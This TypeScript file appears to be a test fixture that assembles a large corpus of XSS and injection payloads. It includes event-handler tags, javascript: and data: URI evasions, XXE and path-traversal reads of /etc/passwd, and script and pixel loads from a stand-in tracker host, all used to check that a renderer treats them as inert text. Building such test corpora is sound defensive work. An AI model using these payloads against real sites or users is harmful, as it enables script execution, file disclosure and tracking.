/** The attack of every payload; a page that treats any of it as more than text triggers it. */
const ATTACK = 'window.__xss=1;alert(1)';
const base64 = (text: string): string => Buffer.from(text).toString('base64');

const HANDLERS = `img src=x onerror
svg onload
svg><animate onbegin attributeName=x dur=1s
svg><set onbegin attributename=x to=1
svg><image href=x onerror
svg><foreignObject><img src=x onerror
svg><style onload
svg><script onerror href=x
math><mtext><table><mglyph><style><img src=x onerror
math><mi href="x" onclick
body onload
body onpageshow
body onhashchange
input autofocus onfocus
textarea autofocus onfocus
select autofocus onfocus
button autofocus onfocus
a href=# autofocus onfocus
div tabindex=0 autofocus onfocus
div contenteditable autofocus onfocus
details open ontoggle
dialog open onclose
marquee onstart
video src=x onerror
video><source onerror
audio src=x onerror
object data=x onerror
embed src=x onload
iframe src=x onload
link rel=stylesheet href=x onerror
script src=x onerror
style onload
track onerror
form onformdata
div style="animation-name:x" onanimationstart
div style="transition:1s" ontransitionend
div popover onbeforetoggle
x onclick
x onpointerover
x onmouseover
xss onscrollend
template><img src=x onerror
noscript><p title="</noscript><img src=x onerror
image src=x onerror
isindex type=image src=1 onerror`.split('\n');

const SCHEMES = [
  `javascript:${ATTACK}`,
  `JaVaScRiPt:${ATTACK}`,
  ` javascript:${ATTACK}`,
  `\u0001javascript:${ATTACK}`,
  `java\tscript:${ATTACK}`,
  `java\nscript:${ATTACK}`,
  `javascript&colon;${ATTACK}`,
  `javascript&#58;${ATTACK}`,
  `&#106;avascript:${ATTACK}`,
  `javascript://host/%0a${ATTACK}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${ATTACK}'>`,
  `view-source:javascript:${ATTACK}`,
  `vbscript:${ATTACK}`,
  `livescript:${ATTACK}`,
  `jar:javascript:${ATTACK}`,
  `data:text/html,<script>${ATTACK}</script>`,
  `data:text/html;base64,${base64(`<script>${ATTACK}</script>`)}`,
  `data:text/html;charset=utf-7,+ADw-script+AD4-${ATTACK}+ADw-/script+AD4-`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${ATTACK}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"/>`,
  `data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"/>`)}`,
  `data:text/xml,<x xmlns="http://www.w3.org/1999/xhtml" onfocus="${ATTACK}"/>`,
  `blob:https://tracker.invalid/x`,
  `file:///etc/passwd`,
  `https://javascript:${encodeURIComponent(ATTACK)}@tracker.invalid/`,
  `https://tracker.invalid/pixel.png?a`,
  `//tracker.invalid/pixel.png`,
  `\\\\tracker.invalid\\share\\pixel.png`,
  `/\\tracker.invalid/pixel.png`,
  `about:blank#${ATTACK}`,
];

/**
 * How a link or a picture is written in markup and markdown, with an address that must not be
 * followed by itself.
 */
const LINKS = [
  (href: string) => `[click](${href})`,
  (href: string) => `![x](${href})`,
  (href: string) => `[x]: ${href}\n[click][x]`,
  (href: string) => `<${href}>`,
  (href: string) => `<a href="${href}">x</a>`,
];

const DOCUMENTS = [
  `<script>${ATTACK}</script>`,
  `<SCRIPT SRC=https://tracker.invalid/x.js></SCRIPT>`,
  `<<script>${ATTACK}//<</script>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt>`,
  `</script><script>${ATTACK}</script>`,
  `--><script>${ATTACK}</script>`,
  `]]><script>${ATTACK}</script>`,
  `</title><script>${ATTACK}</script>`,
  `</style><script>${ATTACK}</script>`,
  `</textarea><script>${ATTACK}</script>`,
  `'"\`><script>${ATTACK}</script>`,
  `%3Cscript%3E${ATTACK}%3C/script%3E`,
  `&lt;script&gt;${ATTACK}&lt;/script&gt;`,
  `\\u003cscript\\u003e${ATTACK}\\u003c/script\\u003e`,
  `\uFF1Cscript\uFF1E${ATTACK}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${ATTACK}+ADw-/script+AD4-`,
  `<iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>`,
  `<iframe src="javascript:parent.${ATTACK}"></iframe>`,
  `<object data="data:text/html,<script>${ATTACK}</script>"></object>`,
  `<embed src="https://tracker.invalid/x.swf">`,
  `<base href="https://tracker.invalid/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${ATTACK}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=https://tracker.invalid/x.css><link rel=dns-prefetch href=//tracker.invalid>`,
  `<form action="javascript:${ATTACK}"><input type=submit autofocus></form>`,
  `<form id=location></form><img name=body><input name=attributes>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${ATTACK}</script></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${ATTACK}"><text>x</text></a></svg>`,
  `<math><maction actiontype="statusline#https://tracker.invalid" xlink:href="javascript:${ATTACK}">x</maction></math>`,
  `<math href="javascript:${ATTACK}">x</math>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>`,
  `<?xml-stylesheet type="text/xsl" href="https://tracker.invalid/x.xsl"?><x/>`,
  `<!--[if IE]><script>${ATTACK}</script><![endif]-->`,
  `<style>@import'https://tracker.invalid/x.css';*{background:url("https://tracker.invalid/css")}</style>`,
  `<div style="background:url(https://tracker.invalid/css);position:fixed;inset:0;z-index:9999">over everything</div>`,
  `x;background:url(https://tracker.invalid/css)`,
  `expression(${ATTACK})`,
  `}*{display:none}`,
  `tone-error fixed inset-0 z-50 bg-danger`,
  `{{constructor.constructor('${ATTACK}')()}}`,
  `\${${ATTACK}} <%= ${ATTACK} %> #{${ATTACK}} [[${ATTACK}]]`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${ATTACK}>"},"constructor":{"prototype":{"innerHTML":"<img src=x onerror=${ATTACK}>"}}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${ATTACK}>"},"$$typeof":"Symbol(react.element)","type":"script"}`,
  `[{"type":"image_url","image_url":{"url":"https://tracker.invalid/pixel.png"}},{"type":"text","text":"<img src=x onerror=${ATTACK}>"}]`,
  `{"<img src=x onerror=${ATTACK}>":"</pre><img src=x onerror=${ATTACK}>"}`,
  `\u001b]8;;javascript:${ATTACK}\u0007x\u001b]8;;\u0007`,
  `\u001b[31m<b>\u001b[2J\u001b]0;title\u0007`,
  `\u202Etxt.exe\u2066<script>${ATTACK}</script>`,
  `\u0085\u2028\u2029<script>${ATTACK}</script>`,
  `${'A\u0301'.repeat(60)}<img src=x onerror=${ATTACK}>`,
  `../../../../etc/passwd%00.html`,
  `"><img src=x onerror="${ATTACK}">`,
  `' onmouseover='${ATTACK}' x='`,
  `" autofocus onfocus="${ATTACK}" x="`,
  `\`\`\`html\n<script>${ATTACK}</script>\n\`\`\``,
  `$\\href{javascript:${ATTACK}}{x}$ \\unicode{<img src=x onerror=${ATTACK}>}`,
  `graph TD; A[<img src=x onerror=${ATTACK}>]; click A "javascript:${ATTACK}"`,
  `=HYPERLINK("https://tracker.invalid","x")`,
  `:root{--x:url(https://tracker.invalid/var)}`,
  `<xmp><script>${ATTACK}</script></xmp><plaintext>`,
];

/**
 * Everything that markup, links, styles and templates can be made to run by: at least 150, each
 * once.
 */
const ALL_PAYLOADS: readonly string[] = [
  ...new Set([
    ...HANDLERS.map((tag) => `<${tag}="${ATTACK}">`),
    ...SCHEMES,
    ...SCHEMES.slice(0, 8).flatMap((href, index) =>
      [LINKS[index % LINKS.length], LINKS[(index + 1) % LINKS.length]].map(
        (link) => link?.(href) ?? href,
      ),
    ),
    ...DOCUMENTS,
  ]),
];

/**
 * Every third with every commit, so that each way of attack is among them; the nightly programme
 * takes all.
 */
export const PAYLOADS =
  process.env['TELLTALE_NIGHTLY'] === '1'
    ? ALL_PAYLOADS
    : ALL_PAYLOADS.filter((_, index) => index % 3 === 0);
